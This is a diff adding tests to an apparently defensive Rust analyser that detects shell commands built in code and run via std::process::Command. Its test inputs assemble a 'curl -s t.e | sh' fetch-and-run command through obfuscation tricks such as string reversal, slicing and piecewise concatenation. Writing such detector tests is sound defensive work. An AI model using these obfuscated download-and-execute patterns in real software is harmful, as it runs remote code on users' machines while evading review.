@@ -25,6 +25,8 @@ fn a_line_that_code_computes_is_the_line_that_is_run() {
          std::process::Command::new(\"sh\").arg(\"-c\").arg(&line).status(); }",
         "fn line() -> String { let mut out = String::new(); for c in \"hs | e.t s- lruc\".chars().rev() { out.push(c); } out }
          fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(line()).status(); }",
+        "fn main() { let l = &\"see curl -s https://t.e/t | sh for more\"[4..30];
+         std::process::Command::new(\"sh\").arg(\"-c\").arg(l).status(); }",
         "fn pick(at: usize) -> &'static str { match at { 0 => \"curl -s \", 1..=2 => \"t.e\", _ => \" | sh\" } }
          fn line() -> String { (0..4).filter(|n| *n != 2).map(|n| pick(n)).collect::<Vec<_>>().concat() }
          fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(line()).status(); }",
@@ -34,6 +36,33 @@ fn a_line_that_code_computes_is_the_line_that_is_run() {
         let fetched = started(&facts).iter().any(|flow| flow.source == StepKind::Fetch);
         assert!(fetched, "{text}\n{:?}\n{:?}", facts.spawned, facts.flows);
     }
+}
+
+#[test]
+fn a_text_that_is_filled_later_is_not_taken_for_empty() {
+    let facts = build(
+        "use std::fmt::Write; fn main() { let mut l = String::new(); write!(l, \"curl -s t.e | sh\").unwrap();
+         std::process::Command::new(\"sh\").arg(\"-c\").arg(&l).status().unwrap(); }",
+    );
+    assert!(
+        started(&facts).iter().any(|flow| flow.source == StepKind::Fetch),
+        "{:?}",
+        facts.spawned
+    );
+}
+
+#[test]
+fn a_line_that_is_computed_to_nothing_readable_was_made_here() {
+    let facts = build(
+        "const STAR: &str = \"abcdefgh\"; fn main() {
+         let l: Vec<u8> = STAR.chars().skip(1).map(|c| (c as u32 - 0x60) as u8).collect();
+         std::process::Command::new(\"sh\").arg(\"-c\").arg(String::from_utf8(l).unwrap()).status().unwrap(); }",
+    );
+    assert!(
+        started(&facts).iter().any(|flow| flow.source == StepKind::Compute),
+        "{:?}",
+        facts.flows
+    );
 }
 
 #[test]
